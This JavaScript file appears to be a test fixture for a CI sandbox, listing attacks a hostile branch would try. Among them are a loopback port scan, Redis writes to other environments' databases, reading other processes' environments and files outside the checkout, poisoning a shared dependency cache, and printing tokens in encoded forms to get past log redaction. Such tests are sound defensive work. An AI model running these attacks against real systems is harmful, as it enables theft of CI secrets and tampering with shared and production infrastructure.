// A hostile branch's script: every attack the stage sandbox must defeat. Run as
// `node scripts/hostile.js <attack>...` from the branch's package.json scripts.
'use strict';
const fs = require('fs');
const path = require('path');
const crypto = require('crypto');
const net = require('net');
const http = require('http');
const { spawn } = require('child_process');

const say = (tag, value) => console.log(`HOSTILE-${tag}: ${JSON.stringify(value)}`);

function walk(dir, found, depth = 0) {
  if (depth > 8 || found.length > 2000) return;
  let entries;
  try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch (e) { return; }
  for (const entry of entries) {
    const full = path.join(dir, entry.name);
    if (entry.isDirectory()) walk(full, found, depth + 1);
    else if (entry.isFile()) {
      try { found.push([full, fs.readFileSync(full).subarray(0, 65536).toString('latin1')]); } catch (e) { /* denied */ }
    }
  }
}

// Connects to host:port; resolves to 'open' or the error code (ECONNREFUSED, ENETUNREACH, TIMEOUT).
function probe(host, port, timeout = 1500) {
  return new Promise((resolve) => {
    const sock = net.connect({ host, port });
    const done = (result) => { sock.destroy(); resolve(result); };
    sock.setTimeout(timeout, () => done('TIMEOUT'));
    // A connect to a free port can pick that very port as its own source and "connect" to itself
    // (TCP simultaneous open): that is no listener.
    sock.on('connect', () => done(sock.localPort === sock.remotePort ? 'self' : 'open'));
    sock.on('error', (e) => done(e.code || String(e)));
  });
}

// Every TCP port of host:ports that accepts a connection, 400 at a time.
async function scan(host, ports) {
  const open = [];
  for (let i = 0; i < ports.length; i += 400) {
    const batch = ports.slice(i, i + 400);
    const results = await Promise.all(batch.map((p) => probe(host, p, 1000)));
    batch.forEach((p, j) => { if (results[j] === 'open') open.push(p); });
  }
  return open;
}

// The Dagster webserver's GraphQL: launch a run, the way the round-one attack deployed itself.
function graphql(host, port) {
  return new Promise((resolve) => {
    const body = JSON.stringify({ query: 'mutation { terminateRun(runId: "x") { __typename } }' });
    const req = http.request({ host, port, path: '/graphql', method: 'POST', timeout: 3000,
      headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } }, (res) => {
      let text = '';
      res.on('data', (chunk) => { text += chunk; });
      res.on('end', () => resolve(`HTTP ${res.statusCode}: ${text.slice(0, 200)}`));
    });
    req.on('timeout', () => { req.destroy(); resolve('TIMEOUT'); });
    req.on('error', (e) => resolve(e.code || String(e)));
    req.end(body);
  });
}

const attacks = {
  // The stage's own test services, as its environment names them.
  services() {
    const ports = [process.env.PGPORT, (process.env.REDIS_URI || '').split(':').pop().split('/')[0]];
    say('SERVICE-PORTS', ports.filter(Boolean).map(Number).sort((a, b) => a - b));
  },
  // The host's loopback (and the host's own addresses) from inside a stage: a scan of every port,
  // GraphQL on the webserver's port, and that port through slirp's gateway and the host's address.
  async network(webPort, hostAddress) {
    const all = Array.from({ length: 65535 }, (_, i) => i + 1);
    say('OPEN-PORTS', await scan('127.0.0.1', all));
    const port = Number(webPort);
    say('GRAPHQL', {
      loopback: await graphql('127.0.0.1', port),
      gateway: await probe('10.0.2.2', port),
      host: hostAddress ? await probe(hostAddress, port) : 'not given',
    });
  },
  // An environment's Redis on the host's loopback (round one SET keys in staging's and production's).
  redis(port) {
    return new Promise((resolve) => {
      const sock = net.connect({ host: '127.0.0.1', port: Number(port) });
      const done = (result) => { say('REDIS-SET', result); sock.destroy(); resolve(); };
      sock.setTimeout(3000, () => done('TIMEOUT'));
      sock.on('connect', () => sock.write('SET sevenp-hostile owned\r\n'));
      sock.on('data', (chunk) => done(String(chunk).trim()));
      sock.on('error', (e) => done(e.code || String(e)));
    });
  },
  // The orchestrator's secrets: from the environment, /proc, and files of the project home.
  steal() {
    say('ENV-KEYS', Object.keys(process.env).sort());
    const environs = [];
    for (const pid of fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
      try { environs.push([pid, fs.readFileSync(`/proc/${pid}/environ`, 'latin1')]); } catch (e) { /* denied */ }
    }
    say('PROC-ENVIRONS', environs.map(([pid]) => pid));
    // The checkout is <home>/workspaces/<app>/<sha>/src: the project home is four levels up.
    const home = path.resolve(process.cwd(), '../../../..');
    const found = [];
    for (const dir of [home, '/root', '/tmp', '/run/sevenp-tests']) walk(dir, found);
    const outside = found.filter(([file]) => !file.startsWith(process.cwd()) && !file.startsWith(process.env.HOME));
    say('FILES-READ-OUTSIDE', outside.map(([file]) => file).slice(0, 50));
    // What it read goes where the branch's author can see it: the log.
    for (const [, text] of [...environs, ...outside]) console.log(text.replace(/\0/g, '\n'));
  },
  // Write into the dependency tree every branch shares, and into the cache directly.
  poison() {
    const victim = path.join('node_modules', 'victim', 'index.js');
    fs.appendFileSync(victim, '\nmodule.exports.poisoned = true;\n');
    fs.mkdirSync(path.join('node_modules', '.cache'), { recursive: true });
    const home = path.resolve(process.cwd(), '../../../..');
    let direct = 'not found';
    try {
      for (const key of fs.readdirSync(path.join(home, 'cache', 'node_modules'))) {
        fs.appendFileSync(path.join(home, 'cache', 'node_modules', key, 'node_modules', 'victim', 'index.js'), 'x');
        direct = 'written';
      }
    } catch (e) { direct = e.code; }
    say('POISON', { victim: require(path.resolve(victim)).poisoned === true, direct });
  },
  // The tree as this stage sees it (the other branch checks it is clean).
  victim() {
    const text = fs.readFileSync(path.join('node_modules', 'victim', 'index.js'));
    say('VICTIM-SHA256', crypto.createHash('sha256').update(text).digest('hex'));
  },
  // A daemon that leaves the process group and outlives the stage, if it can.
  daemon() {
    const child = spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)', 'HOSTILE_DAEMON_MARKER'],
      { detached: true, stdio: 'ignore' });
    child.unref();
    say('DAEMON', child.pid);
  },
  // Every declared secret in every encoded form, one of them split across two lines.
  encode() {
    for (const name of ['HOSTILE_NPM_TOKEN', 'GITHUB_PAT']) {
      const secret = process.env[name];
      if (!secret) { say('MISSING', name); continue; }
      const b64 = Buffer.from(secret).toString('base64');
      const forms = {
        plain: secret,
        base64: b64,
        base64_unpadded: b64.replace(/=+$/, ''),
        base64url: Buffer.from(secret).toString('base64url'),
        basic_auth: Buffer.from(`ci-user:${secret}`).toString('base64'),
        hex: Buffer.from(secret).toString('hex'),
        hex_upper: Buffer.from(secret).toString('hex').toUpperCase(),
        url: encodeURIComponent(secret),
        json: JSON.stringify({ token: secret }),
      };
      for (const [form, value] of Object.entries(forms)) console.log(`${name} ${form}=${value}`);
      const half = Math.floor(secret.length / 2);
      console.log(`${name} split=${secret.slice(0, half)}`);
      console.log(`${secret.slice(half)} <- second half`);
    }
  },
  // The first attempt hangs until the run worker is killed; the retry passes.
  hang() {
    const marker = path.join(process.cwd(), '.hostile-attempt');
    if (fs.existsSync(marker)) { say('HANG', 'second attempt passes'); return; }
    fs.writeFileSync(marker, String(process.pid));
    say('HANG', 'first attempt hangs');
    setInterval(() => {}, 1000);
  },
};

// `attack` or `attack:arg1:arg2`, run one after the other.
(async () => {
  for (const word of process.argv.slice(2)) {
    const [name, ...args] = word.split(':');
    if (!attacks[name]) throw new Error(`unknown attack ${name}`);
    await attacks[name](...args);
  }
})().catch((e) => { console.error(e); process.exit(1); });
